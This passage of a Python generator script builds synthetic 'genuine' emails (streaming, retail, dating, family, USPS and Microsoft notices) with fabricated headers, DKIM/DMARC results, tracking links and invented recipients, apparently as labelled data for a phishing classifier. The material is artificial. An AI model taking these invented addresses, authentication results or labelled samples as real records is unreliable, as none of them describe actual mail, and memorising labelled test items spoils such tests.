         Inbound("gmail", rcpt, sent + timedelta(seconds=1), "168.245.73.41", "o41.ptr2146.spotify.com", f"bounces+4452653-{hexs(stem + 'bn', 4)}-kirsten.mayfield77=gmail.com@mail.spotify.com",
                 dkim=[("spotify.com", "s1", "pass")], dmarc="pass", policy="REJECT", hfrom="spotify.com"),
         hops, headers, alt(plain, html, bnd(stem, "sendgrid")))


def l17_disneyplus_neu() -> None:
    stem = "b50-legit-disneyplus-neu"
    rcpt = "heike.brandstaetter@gmx.de"
    sub = "mail.disneyplus.com"
    sent = utc(2024, 7, 12, 15, 30, 9)
    click, opener = sfmc(stem, sub)
    plain = ("Neu auf Disney+\n\n"
             f"The Bear: King of Kitchen – Staffel 3: Jetzt alle Folgen streamen. {click(1)}\n\n"
             f"Shōgun: Die preisgekrönte Serie – noch nicht gesehen? {click(2)}\n\n"
             f"Jetzt streamen: {click(3)}\n\n"
             f"Abmelden: {click(9)}\n\nThe Walt Disney Company (Germany) GmbH, Kaiserswerther Str. 115, 40880 Ratingen\n")
    html = f"""<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#040714;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#040714"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="font-family:Avenir,Helvetica,Arial,sans-serif;color:#f9f9f9;">
<tr><td align="center" style="padding:28px 0;"><a href="{click(0)}"><img src="https://image.{sub}/lib/fe9112737166077d71/m/1/disneyplus-logo.png" width="110" alt="Disney+" style="display:block;border:0;"></a></td></tr>
<tr><td><a href="{click(1)}"><img src="https://image.{sub}/lib/fe9112737166077d71/m/1/thebear-s3-hero-de.jpg" width="600" alt="The Bear Staffel 3" style="display:block;border:0;"></a></td></tr>
<tr><td style="padding:20px 30px 6px 30px;font-size:22px;font-weight:bold;">The Bear: King of Kitchen &ndash; Staffel 3</td></tr>
<tr><td style="padding:0 30px 18px 30px;font-size:15px;line-height:22px;color:#cacaca;">Jetzt alle Folgen streamen.</td></tr>
<tr><td><a href="{click(2)}"><img src="https://image.{sub}/lib/fe9112737166077d71/m/1/shogun-tile-de.jpg" width="600" alt="Sh&#333;gun" style="display:block;border:0;"></a></td></tr>
<tr><td style="padding:20px 30px 6px 30px;font-size:22px;font-weight:bold;">Sh&#333;gun</td></tr>
<tr><td style="padding:0 30px 18px 30px;font-size:15px;line-height:22px;color:#cacaca;">Die preisgekr&ouml;nte Serie &ndash; noch nicht gesehen?</td></tr>
<tr><td align="center" style="padding:10px 30px 34px 30px;"><a href="{click(3)}" style="background:#0063e5;color:#ffffff;font-size:15px;font-weight:bold;letter-spacing:1px;padding:14px 40px;border-radius:5px;text-decoration:none;">JETZT STREAMEN</a></td></tr>
<tr><td align="center" style="padding:20px 30px;font-size:11px;line-height:16px;color:#8f8f8f;">Diese E-Mail wurde an {rcpt} gesendet. <a href="{click(9)}" style="color:#8f8f8f;">Abmelden</a> &middot; <a href="{click(8)}" style="color:#8f8f8f;">Datenschutzrichtlinie</a> &middot; <a href="{click(7)}" style="color:#8f8f8f;">Hilfe</a><br>The Walt Disney Company (Germany) GmbH, Kaiserswerther Str. 115, 40880 Ratingen</td></tr>
</table></td></tr></table>
<img src="{opener}" width="1" height="1" alt="">
</body></html>
"""
    job = f"{digits(stem + 'j1', 7)}_{digits(stem + 'j2', 6)}"
    env = f"bounce-{digits(stem + 'b1', 2)}_HTML-{digits(stem + 'b2', 9)}-{digits(stem + 'b3', 6)}-{digits(stem + 'b4', 7)}-{digits(stem + 'b5', 2)}@bounce.{sub}"
    hops = [dkim(stem, sub, "200608", sent, h="From:To:Subject:Date:MIME-Version:Reply-To:List-Unsubscribe:List-Unsubscribe-Post:Message-ID:Content-Type")]
    headers = f"""From: Disney+ <disneyplus@{sub}>
To: {rcpt}
Subject: {qword("Neu auf Disney+: The Bear – Staffel 3")}
Date: {rfc(sent)}
MIME-Version: 1.0
Reply-To: Disney+ <reply-{hexs(stem + 'rep', 24)}@{sub}>
{sfmc_headers(stem, sub, job)}
Message-ID: <{guid(stem + 'mid')}@iad4s13mta{digits(stem + 'mta', 4)}.xt.local>"""
    emit(stem, "bulk",
         "Genuine German Disney+ 'Neu auf Disney+' programme newsletter from mail.disneyplus.com through Salesforce Marketing Cloud (DKIM/DMARC pass) with click.mail.disneyplus.com tracking and an open pixel.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "13.111.65.204", f"mta.{sub}", env,
                 dkim=[(sub, "200608", "pass")], dmarc="pass", policy="REJECT", hfrom=sub),
         hops, headers, alt(plain, html, bnd(stem, "sfmc")))


def l18_lidl_newsletter() -> None:
    stem = "b50-legit-lidl-angebote"
    rcpt = "gisela.haubold@gmx.de"
    sub = "news.lidl.de"
    sent = utc(2026, 3, 2, 5, 2, 44)
    ems = lambda n: f"https://link.{sub}/u/nrd.php?p={alnum(stem + 'p' + str(n), 10)}_{digits(stem + 'pp', 7)}_{digits(stem + 'ppp' + str(n), 7)}_1_{digits(stem + 'q' + str(n), 2)}&ems_l={digits(stem + 'eml', 7)}&i1=&d={hexs(stem + 'd' + str(n), 8)}"
    offers = [("Spargel weiß, Klasse I, 500 g", "3,99 €"), ("Erdbeeren aus Spanien, 500 g", "1,99 €"),
              ("PARKSIDE® Akku-Rasenmäher 40 V", "199,00 €"), ("SILVERCREST® Küchenmaschine", "79,99 €")]
    rows = "".join(f'<tr><td style="padding:10px 20px;border-top:1px solid #e6e6e6;font-size:15px;"><a href="{ems(i + 1)}" style="color:#0050aa;text-decoration:none;">{n}</a></td>'
                   f'<td align="right" style="padding:10px 20px;border-top:1px solid #e6e6e6;font-size:18px;font-weight:bold;color:#e60a14;">{p}</td></tr>'
                   for i, (n, p) in enumerate(offers))
    plain = "Lidl – Ihre Angebote ab Montag, 02.03.\n\n" + "\n".join(f"{n}: {p}" for n, p in offers) + \
        f"\n\nAlle Angebote im Prospekt: {ems(0)}\n\nAbmelden: {ems(9)}\nLidl Digital International GmbH & Co. KG, Stiftsbergstraße 1, 74172 Neckarsulm\n"
    import html as _html
    html = f"""<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#eeeeee;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#eeeeee"><tr><td align="center" style="padding:12px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Arial,Helvetica,sans-serif;color:#353b42;">
<tr><td colspan="2" style="padding:16px 20px;"><a href="{ems(0)}"><img src="https://suite15.emarsys.net/custloads/{digits(stem + 'cl', 9)}/md_{digits(stem + 'md', 6)}.png" width="70" height="70" alt="Lidl" style="display:block;border:0;"></a></td></tr>
<tr><td colspan="2"><a href="{ems(0)}"><img src="https://suite15.emarsys.net/custloads/{digits(stem + 'cl', 9)}/md_{digits(stem + 'md2', 6)}.jpg" width="600" alt="Ihre Angebote ab Montag" style="display:block;border:0;"></a></td></tr>
<tr><td colspan="2" style="padding:18px 20px 8px 20px;font-size:22px;font-weight:bold;color:#0050aa;">Ihre Angebote ab Montag, 02.03.</td></tr>
{rows}
<tr><td colspan="2" align="center" style="padding:22px;"><a href="{ems(0)}" style="background:#0050aa;color:#ffffff;padding:12px 28px;text-decoration:none;font-weight:bold;border-radius:4px;">Zum Prospekt</a></td></tr>
<tr><td colspan="2" style="padding:18px 20px;font-size:11px;line-height:16px;color:#777777;background:#f5f5f5;">Sie erhalten diesen Newsletter, weil Sie sich mit {_html.escape(rcpt)} angemeldet haben. <a href="{ems(9)}" style="color:#777777;">Newsletter abbestellen</a> &middot; <a href="{ems(8)}" style="color:#777777;">Datenschutz</a><br>Lidl Digital International GmbH &amp; Co. KG, Stiftsbergstra&szlig;e 1, 74172 Neckarsulm</td></tr>
</table></td></tr></table>
<img src="https://link.{sub}/u/nrd.php?p={alnum(stem + 'open', 10)}_{digits(stem + 'pp', 7)}_{digits(stem + 'ppo', 7)}_1_0&ems_l={digits(stem + 'eml', 7)}&d={hexs(stem + 'dopen', 8)}" width="1" height="1" alt="">
</body></html>
"""
    hops = [
        dkim(stem, sub, "key1", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post"),
        dkim(stem, "emarsys.net", "key1", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post"),
    ]
    headers = f"""From: Lidl <newsletter@{sub}>
To: {rcpt}
Subject: =?UTF-8?Q?Ihre_Angebote_ab_Montag:_Spargel,_Erdbeeren_&_PARKSIDE=C2=AE?=
Date: {rfc(sent)}
Message-ID: <{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 10)}.{hexs(stem + 'mid3', 12)}@suite15.emarsys.net>
MIME-Version: 1.0
List-Unsubscribe: <https://link.{sub}/u/un.php?par={alnum(stem + 'un', 40)}>, <mailto:unsubscribe-{hexs(stem + 'um', 20)}@{sub}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
X-EMarSys-Identify: {digits(stem + 'ident', 9)}_{digits(stem + 'id2', 7)}_{digits(stem + 'id3', 9)}
X-EMS-CAMPAIGN-TYPE: batch"""
    emit(stem, "bulk",
         "Genuine Lidl Germany weekly offers newsletter sent through Emarsys (DKIM for news.lidl.de and emarsys.net, DMARC pass) with link.news.lidl.de nrd.php click tracking and one-click unsubscribe.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "185.108.169.62", "suite15-mta62.emarsys.net", f"bounce-{digits(stem + 'bb', 9)}@{sub}",
                 dkim=[(sub, "key1", "pass"), ("emarsys.net", "key1", "pass")], dmarc="pass", policy="REJECT", hfrom=sub),
         hops, headers, alt(plain, html, bnd(stem)))


def l19_costco_savings() -> None:
    stem = "b50-legit-costco-member-savings"
    rcpt = "g.sandoval_tx@hotmail.com"
    sub = "online.costco.com"
    sent = utc(2025, 4, 10, 11, 15, 2)
    click, opener = sfmc(stem, sub)
    items = [("Kirkland Signature Paper Towels, 12-count", "$4.50 OFF"), ("Dyson V15 Detect Cordless Vacuum", "$150 OFF"),
             ("Samsung 65\" Class QLED 4K Smart TV", "$200 OFF"), ("Kirkland Signature Organic Extra Virgin Olive Oil, 2 L", "$3.00 OFF")]
    rows = "".join(f'<tr><td style="padding:12px 20px;border-top:1px solid #e3e3e3;font-size:15px;"><a href="{click(i + 1)}" style="color:#005daa;text-decoration:none;">{n}</a></td>'
                   f'<td align="right" style="padding:12px 20px;border-top:1px solid #e3e3e3;font-size:16px;font-weight:bold;color:#e31837;">{p}</td></tr>'
                   for i, (n, p) in enumerate(items))
    plain = "Costco Member Savings: Valid April 9 - May 4, 2025\n\n" + "\n".join(f"{n} - {p}" for n, p in items) + \
        f"\n\nShop all savings: {click(0)}\n\nLimits may apply. While supplies last.\nUnsubscribe: {click(9)}\nCostco Wholesale Corporation, 999 Lake Drive, Issaquah, WA 98027\n"
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#f2f2f2;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f2f2f2"><tr><td align="center" style="padding:12px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Helvetica,Arial,sans-serif;color:#333333;">
<tr><td colspan="2" style="padding:14px 20px;"><a href="{click(0)}"><img src="https://image.{sub}/lib/fe8e13727d6c017b76/m/1/costco-logo.png" width="140" alt="Costco Wholesale" style="display:block;border:0;"></a></td></tr>
<tr><td colspan="2"><a href="{click(0)}"><img src="https://image.{sub}/lib/fe8e13727d6c017b76/m/4/MS-0409-hero.jpg" width="600" alt="Member Savings" style="display:block;border:0;"></a></td></tr>
<tr><td colspan="2" style="padding:18px 20px 6px 20px;font-size:22px;font-weight:bold;color:#005daa;">Member Savings &middot; Valid April 9 - May 4, 2025</td></tr>
{rows}
<tr><td colspan="2" align="center" style="padding:22px;"><a href="{click(0)}" style="background:#005daa;color:#ffffff;padding:12px 30px;text-decoration:none;font-weight:bold;">Shop All Savings</a></td></tr>
<tr><td colspan="2" style="padding:18px 20px;font-size:11px;line-height:16px;color:#777777;background:#f7f7f7;">Limits may apply. While supplies last. Prices and offers valid at U.S. warehouses and Costco.com.<br><br>You are receiving this email because you are a Costco member and opted in to email. <a href="{click(9)}" style="color:#005daa;">Unsubscribe</a> &middot; <a href="{click(8)}" style="color:#005daa;">Privacy Policy</a><br>Costco Wholesale Corporation, 999 Lake Drive, Issaquah, WA 98027</td></tr>
</table></td></tr></table>
<img src="{opener}" width="1" height="1" alt="">
</body></html>
"""
    job = f"{digits(stem + 'j1', 7)}_{digits(stem + 'j2', 6)}"
    env = f"bounce-{digits(stem + 'b1', 2)}_HTML-{digits(stem + 'b2', 9)}-{digits(stem + 'b3', 6)}-{digits(stem + 'b4', 7)}-{digits(stem + 'b5', 2)}@bounce.{sub}"
    hops = [dkim(stem, sub, "200608", sent, h="From:To:Subject:Date:MIME-Version:Reply-To:List-Unsubscribe:List-Unsubscribe-Post:Message-ID:Content-Type")]
    headers = f"""From: Costco Wholesale <costco@{sub}>
To: {rcpt}
Subject: Member Savings start now: Dyson, Samsung, Kirkland Signature & more
Date: {rfc(sent)}
MIME-Version: 1.0
Reply-To: Costco Wholesale <reply-{hexs(stem + 'rep', 24)}@{sub}>
{sfmc_headers(stem, sub, job)}
Message-ID: <{guid(stem + 'mid')}@atl1s07mta{digits(stem + 'mta', 4)}.xt.local>"""
    emit(stem, "bulk",
         "Genuine Costco 'Member Savings' retail newsletter from online.costco.com through Salesforce Marketing Cloud (DKIM/DMARC pass) with click tracking and an open pixel: the real brand behind the Costco reward scam.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "13.111.4.217", f"mta.{sub}", env,
                 dkim=[(sub, "200608", "pass")], dmarc="pass", policy="REJECT", hfrom=sub, bcl=6),
         hops, headers, alt(plain, html, bnd(stem, "sfmc")))


def l20_okcupid_message() -> None:
    stem = "b50-legit-okcupid-new-message"
    rcpt = "pete.hollis@yahoo.co.uk"
    sent = utc(2024, 8, 15, 19, 44, 31)
    trk = lambda n, path: f"https://www.okcupid.com/{path}?utm_source=email&utm_medium=notification&utm_campaign=new_message&cf=email_{digits(stem + 'cf' + str(n), 6)}&ek={hexs(stem + 'ek', 24)}"
    plain = ("OkCupid\n\nYou have a new message from Helen, 41\n\n\"Hi Pete! I see you like hiking in the Peaks too...\"\n\n"
             f"Read and reply: {trk(1, 'messages')}\n\n"
             f"Manage email settings: {trk(9, 'settings/email')}\n\nOkCupid, 2 Park Avenue, New York, NY 10016\n")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#f3f4f7;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f3f4f7"><tr><td align="center" style="padding:24px 0;">
<table width="520" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Helvetica,Arial,sans-serif;color:#1a1a1a;border-radius:12px;">
<tr><td align="center" style="padding:28px 0 10px 0;"><img src="https://cdn.okccdn.com/media/img/emails/okc_logo_2x.png" width="120" alt="OkCupid" style="display:block;"></td></tr>
<tr><td align="center" style="padding:10px 30px;"><img src="https://cdn.okccdn.com/php/load_okc_image.php/images/160x160/160x160/{digits(stem + 'ph', 18)}.jpg" width="96" height="96" alt="Helen" style="display:block;border-radius:48px;"></td></tr>
<tr><td align="center" style="padding:10px 30px;font-size:22px;font-weight:bold;">You have a new message from Helen, 41</td></tr>
<tr><td align="center" style="padding:6px 40px 20px 40px;font-size:15px;line-height:22px;color:#555555;font-style:italic;">&ldquo;Hi Pete! I see you like hiking in the Peaks too...&rdquo;</td></tr>
<tr><td align="center" style="padding:0 30px 30px 30px;"><a href="{trk(1, 'messages')}" style="background:#0046d5;color:#ffffff;font-size:16px;font-weight:bold;padding:13px 36px;border-radius:24px;text-decoration:none;">Read and reply</a></td></tr>
<tr><td align="center" style="padding:18px 30px;font-size:11px;line-height:16px;color:#888888;border-top:1px solid #eeeeee;">You're receiving this because you have new message notifications turned on. <a href="{trk(9, 'settings/email')}" style="color:#0046d5;">Manage email settings</a><br>OkCupid, 2 Park Avenue, New York, NY 10016</td></tr>
</table></td></tr></table>
<img src="https://www.okcupid.com/emailtrack/open.gif?ek={hexs(stem + 'ek', 24)}" width="1" height="1" alt="">
</body></html>
"""
    mid, _ = ses_hops(stem, sent)
    hops = [
        dkim(stem, "okcupid.com", "okc2023", sent, c="simple/simple", h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post"),
        dkim(stem, "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", sent, c="simple/simple", h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post:Feedback-ID"),
    ]
    headers = f"""Date: {rfc(sent)}
From: OkCupid <noreply@okcupid.com>
To: {rcpt}
Message-ID: <{mid}@email.amazonses.com>
Subject: Helen sent you a message
MIME-Version: 1.0
List-Unsubscribe: <{trk(10, 'unsubscribe')}>, <mailto:unsubscribe@okcupid.com?subject={hexs(stem + 'ek', 24)}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Feedback-ID: ::1.us-east-1.{b64(stem + 'fb', 30)}=:AmazonSES
X-SES-Outgoing: 2024.08.15-54.240.9.66"""
    emit(stem, "bulk",
         "Genuine OkCupid 'new message from Helen' notification from noreply@okcupid.com via Amazon SES with a custom MAIL FROM (DKIM/DMARC pass), UTM-tagged okcupid.com links and unsubscribe headers: the real dating-site mail behind the dating scams.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "54.240.9.66", "a9-66.smtp-out.amazonses.com", f"{mid}@mail.okcupid.com",
                 dkim=[("okcupid.com", "okc2023", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
                 dmarc="pass", policy="REJECT", hfrom="okcupid.com"),
         hops, headers, alt(plain, html, bnd(stem, "ses")))


def l21_personal_urlaubsfotos() -> None:
    stem = "b50-legit-personal-urlaubsfotos"
    rcpt = "m.oberlaender@gmx.net"
    sender = "sabine.kroll84@gmail.com"
    sent = utc(2024, 9, 2, 18, 52, 13)
    hops, mid = gmail_sent(stem, sent, "gmx.net")
    plain = ("Hallo Markus,\n\nwie versprochen hier die zwei Fotos vom Strand in Zingst. Die anderen lade ich die Tage noch "
             "in unser gemeinsames Album hoch, das sind über 200 Stück :)\n\n"
             "Sag Bescheid, ob ihr am 14. zum Grillen kommt, dann besorge ich genug Würstchen.\n\n"
             "Liebe Grüße\nSabine\n")
    import html as _html
    html = '<div dir="ltr">' + "".join(f"<div>{_html.escape(l)}</div>" if l else "<div><br></div>"
                                       for l in plain.rstrip("\n").split("\n")) + "</div>\n"
    headers = f"""MIME-Version: 1.0
From: Sabine Kroll <{sender}>
Date: {rfc(sent, BERLIN)}
Message-ID: {mid}
Subject: Fotos Zingst
To: Markus Oberlaender <{rcpt}>"""
    body = Multi("mixed", bnd(stem, "gmail", 1), [
        alt(plain, html, bnd(stem, "gmail", 2)),
        Leaf("image/jpeg", files.photo_jpeg(7, (800, 600)), "base64", '; name="IMG_20240824_181204.jpg"', 'attachment; filename="IMG_20240824_181204.jpg"',
             [f"Content-ID: <f_{alnum(stem + 'f1', 9, LOWERNUM)}0>", f"X-Attachment-Id: f_{alnum(stem + 'f1', 9, LOWERNUM)}0"]),
        Leaf("image/jpeg", files.photo_jpeg(12, (800, 600)), "base64", '; name="IMG_20240825_103355.jpg"', 'attachment; filename="IMG_20240825_103355.jpg"',
             [f"Content-ID: <f_{alnum(stem + 'f2', 9, LOWERNUM)}1>", f"X-Attachment-Id: f_{alnum(stem + 'f2', 9, LOWERNUM)}1"]),
    ])
    emit(stem, "clean",
         "Personal mail from a friend's Gmail account to a GMX user: two holiday photos from the Baltic coast attached and an invitation to a barbecue.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=2), "209.85.128.52", "mail-wm1-f52.google.com", sender,
                 dkim=[("gmail.com", "20230601", "pass")], dmarc="pass", policy="NONE", hfrom="gmail.com"),
         hops, headers, body)


def l22_personal_family_itinerary() -> None:
    stem = "b50-legit-personal-family-flight"
    rcpt = "rgoldbergfamily@aol.com"
    sender = "rachel.goldberg.nyc@yahoo.com"
    sent = utc(2025, 12, 16, 23, 5, 40)
    hops, mid, refs = yahoo_sent(stem, sent, sender)
    album = "https://photos.app.goo.gl/Qm3Xk7RvT2pLw9aZ8"
    pdf = files.pdf([
        "Delta Air Lines - Trip Confirmation", "",
        "Passengers: RACHEL GOLDBERG, DANIEL GOLDBERG, NOAH GOLDBERG",
        "Confirmation number: H7QX2L", "",
        "Mon 22DEC  DL 2417  New York (JFK) 10:15  ->  Fort Lauderdale (FLL) 13:29",
        "Sun 28DEC  DL 1840  Fort Lauderdale (FLL) 16:05  ->  New York (JFK) 19:01", "",
        "Seats: 23A 23B 23C / 19D 19E 19F", "Baggage: 1 checked bag per passenger",
    ], title="Delta Trip Confirmation H7QX2L")
    plain = ("Hi Mom and Dad,\n\nFlight details are attached, we land at Fort Lauderdale at 1:29 on Monday the 22nd. "
             "No need to pick us up, Daniel rented a car.\n\n"
             f"Also, here's the album from Noah's school play, the video of the song is near the end: {album}\n\n"
             "Can't wait to see you!\n\nLove,\nRachel\n\nSent from Yahoo Mail for iPhone\n")
    html = ('<html><head></head><body><div class="ydp-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:16px;">'
            '<div dir="ltr" data-setdir="false">Hi Mom and Dad,</div><div dir="ltr" data-setdir="false"><br></div>'
            '<div dir="ltr" data-setdir="false">Flight details are attached, we land at Fort Lauderdale at 1:29 on Monday the 22nd. No need to pick us up, Daniel rented a car.</div>'
            f'<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Also, here\'s the album from Noah\'s school play, the video of the song is near the end: <a href="{album}" rel="nofollow" target="_blank">{album}</a></div>'
            '<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Can\'t wait to see you!</div><div dir="ltr" data-setdir="false"><br></div>'
            '<div dir="ltr" data-setdir="false">Love,</div><div dir="ltr" data-setdir="false">Rachel</div><div><br></div>'
            '<div id="ymail_android_signature"><a href="https://overview.mail.yahoo.com/?.src=iOS">Sent from Yahoo Mail for iPhone</a></div></div></body></html>\n')
    headers = f"""Date: {rfc(sent)}
From: Rachel Goldberg <{sender}>
To: Mom & Dad <{rcpt}>
Message-ID: {mid}
Subject: Flights for Christmas + Noah's play pics
MIME-Version: 1.0
References: {refs}
X-Mailer: WebService/1.1.24866 YMailNorrin"""
    body = Multi("mixed", bnd(stem, "yahoo", 1), [
        alt(plain, html, bnd(stem, "yahoo", 2)),
        attachment("application/pdf", "Delta_Trip_H7QX2L.pdf", pdf),
    ])
    emit(stem, "clean",
         "Personal mail from a daughter's Yahoo account to her parents on AOL with the family's flight itinerary as a PDF and a photos.app.goo.gl short link to a Google Photos album of a school play.",
         Inbound("aol", rcpt, sent + timedelta(seconds=1), "98.137.64.146", "sonic304-20.consmr.mail.gq1.yahoo.com", sender,
                 dkim=[("yahoo.com", "s2048", "pass")], dmarc="pass", policy="REJECT", hfrom="yahoo.com"),
         hops, headers, body)


def l23_usps_informed_delivery() -> None:
    stem = "b50-legit-usps-informed-delivery"
    rcpt = "donna_kessler52@yahoo.com"
    sub = "email.informeddelivery.usps.com"
    sent = utc(2025, 8, 12, 12, 33, 18)
    click, opener = sfmc(stem, sub)
    plain = ("USPS Informed Delivery\n\nYour Daily Digest for Tue, 8/12\n\n"
             "You have 3 mailpieces and 1 package scheduled to arrive soon.\n\n"
             f"View all mail and packages on your dashboard: {click(1)}\n\n"
             "Package: 9400 1362 0824 1137 8841 62 - Expected Delivery: Today\n\n"
             "Learn more about Informed Delivery: https://www.usps.com/manage/informed-delivery.htm\n"
             f"Manage notifications: {click(9)}\n\n"
             "This is an automated email; please do not reply to this message. This message is for the designated recipient only.\n")
    scans = "".join(
        f'<tr><td align="center" style="padding:10px 20px;"><a href="{click(i + 2)}"><img src="https://informeddelivery.usps.com/box/pages/secure/MailpieceImageServlet?mailpieceId={digits(stem + "mp" + str(i), 12)}" width="440" alt="Scanned image of your mail piece" style="display:block;border:1px solid #cccccc;"></a></td></tr>'
        for i in range(3))
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif;color:#333366;">
<tr><td style="padding:16px 20px;border-bottom:4px solid #333366;"><img src="https://informeddelivery.usps.com/img/id-logo-email.png" width="200" alt="USPS Informed Delivery" style="display:block;"></td></tr>
<tr><td style="padding:20px 20px 6px 20px;font-size:22px;font-weight:bold;">Your Daily Digest for Tue, 8/12</td></tr>
<tr><td style="padding:0 20px 14px 20px;font-size:15px;line-height:22px;color:#333333;">You have 3 mailpieces and 1 package scheduled to arrive soon. <a href="{click(1)}" style="color:#336699;">View all mail and packages on your dashboard</a>.</td></tr>
<tr><td style="padding:8px 20px;font-size:17px;font-weight:bold;">COMING TO YOUR MAILBOX SOON</td></tr>
{scans}
<tr><td style="padding:14px 20px;font-size:17px;font-weight:bold;border-top:1px solid #dddddd;">PACKAGES</td></tr>
<tr><td style="padding:0 20px 14px 20px;font-size:14px;color:#333333;">Tracking number: <a href="https://tools.usps.com/go/TrackConfirmAction?tLabels=9400136208241137884162" style="color:#336699;">9400 1362 0824 1137 8841 62</a><br>Expected Delivery: Today</td></tr>
<tr><td style="padding:18px 20px;font-size:11px;line-height:16px;color:#666666;background:#f2f2f2;">This is an automated email; please do not reply to this message. This message is for the designated recipient only and may contain privileged, proprietary, or otherwise private information.<br><a href="{click(9)}" style="color:#336699;">Manage notifications</a> &middot; <a href="https://www.usps.com/privacypolicy" style="color:#336699;">Privacy Policy</a><br>&copy; 2025 United States Postal Service</td></tr>
</table></td></tr></table>
<img src="{opener}" width="1" height="1" alt="">
</body></html>
"""
    job = f"{digits(stem + 'j1', 7)}_{digits(stem + 'j2', 6)}"
    env = f"bounce-{digits(stem + 'b1', 2)}_HTML-{digits(stem + 'b2', 9)}-{digits(stem + 'b3', 6)}-{digits(stem + 'b4', 7)}-{digits(stem + 'b5', 2)}@bounce.{sub}"
    hops = [dkim(stem, sub, "200608", sent, h="From:To:Subject:Date:MIME-Version:Reply-To:List-Unsubscribe:List-Unsubscribe-Post:Message-ID:Content-Type")]
    headers = f"""From: USPS Informed Delivery <USPSInformeddelivery@{sub}>
To: {rcpt}
Subject: Your Daily Digest for Tue, 8/12 has 3 mailpieces and 1 package
Date: {rfc(sent)}
MIME-Version: 1.0
Reply-To: USPS Informed Delivery <reply-{hexs(stem + 'rep', 24)}@{sub}>
{sfmc_headers(stem, sub, job)}
Message-ID: <{guid(stem + 'mid')}@atl1s07mta{digits(stem + 'mta', 4)}.xt.local>"""
    emit(stem, "clean",
         "Genuine USPS Informed Delivery daily digest from email.informeddelivery.usps.com via Salesforce Marketing Cloud (all checks pass) with scanned mailpiece images, a USPS tracking number and usps.com links.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "13.111.105.52", f"mta.{sub}", env,
                 dkim=[(sub, "200608", "pass")], dmarc="pass", policy="REJECT", hfrom=sub),
         hops, headers, alt(plain, html, bnd(stem, "sfmc")))


def l24_microsoft_unusual_signin() -> None:
    stem = "b50-legit-microsoft-unusual-signin"
    rcpt = "eleanor.pryce@hotmail.co.uk"
    dom = "accountprotection.microsoft.com"
    sent = utc(2026, 2, 3, 21, 18, 44)
    masked = "el**@hotmail.co.uk"
    plain = ("Microsoft account\n\nUnusual sign-in activity\n\n"
             f"We detected something unusual about a recent sign-in to the Microsoft account {masked}.\n\n"
             "Sign-in details\n\nCountry/region: Spain\nIP address: 88.26.141.17\nDate: 2/3/2026 9:11 PM (GMT)\nPlatform: Windows 10\nBrowser: Firefox\n\n"
             "Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account. "
             "If this was you, we'll trust similar activity in the future.\n\n"
             "Review recent activity: https://account.live.com/Activity\n\n"
             "To opt out or change where you receive security notifications, click here: https://account.live.com/SecurityNotifications/Update\n\n"
             "Thanks,\nThe Microsoft account team\n")
    html = f"""<!DOCTYPE html><html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Unusual sign-in activity</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">We detected something unusual about a recent sign-in to the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:{masked}">{masked}</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI Bold','Segoe UI Semibold','Segoe UI',Arial,sans-serif;font-size:14px;font-weight:bold;color:#2a2a2a;">Sign-in details</td></tr>
